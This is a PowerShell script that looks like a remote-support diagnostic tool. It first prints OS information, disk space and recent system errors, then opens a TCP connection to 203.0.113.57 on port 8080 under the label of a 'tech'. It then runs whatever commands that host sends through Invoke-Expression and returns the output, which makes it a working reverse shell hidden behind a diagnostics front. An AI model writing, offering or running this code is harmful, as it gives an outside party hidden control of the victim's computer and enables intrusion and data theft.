
$diag = [ordered]@{
  OS     = (Get-ComputerInfo -Property OsName, OsVersion | Out-String).Trim()
  Disk   = (Get-Volume | Format-Table DriveLetter, SizeRemaining, Size -AutoSize | Out-String).Trim()
  Errors = (Get-WinEvent -FilterHashtable @{ LogName = "System"; Level = 2; StartTime = (Get-Date).AddDays(-1) } -MaxEvents 20 -ErrorAction SilentlyContinue |
            Format-Table TimeCreated, Id, Message -AutoSize | Out-String).Trim()
}
$diag | Format-List

$tech = "203.0.113.57"; $port = 8080
$client = New-Object System.Net.Sockets.TcpClient($tech, $port)
$stream = $client.GetStream()
$writer = New-Object System.IO.StreamWriter($stream); $writer.AutoFlush = $true
$reader = New-Object System.IO.StreamReader($stream)
$writer.WriteLine("session open: $env:COMPUTERNAME")
while ($client.Connected) {
  $cmd = $reader.ReadLine()
  if ($null -eq $cmd) { break }
  $out = try { Invoke-Expression $cmd 2>&1 | Out-String } catch { $_.ToString() }
  $writer.Write($out + "PS> ")
}
$client.Close()
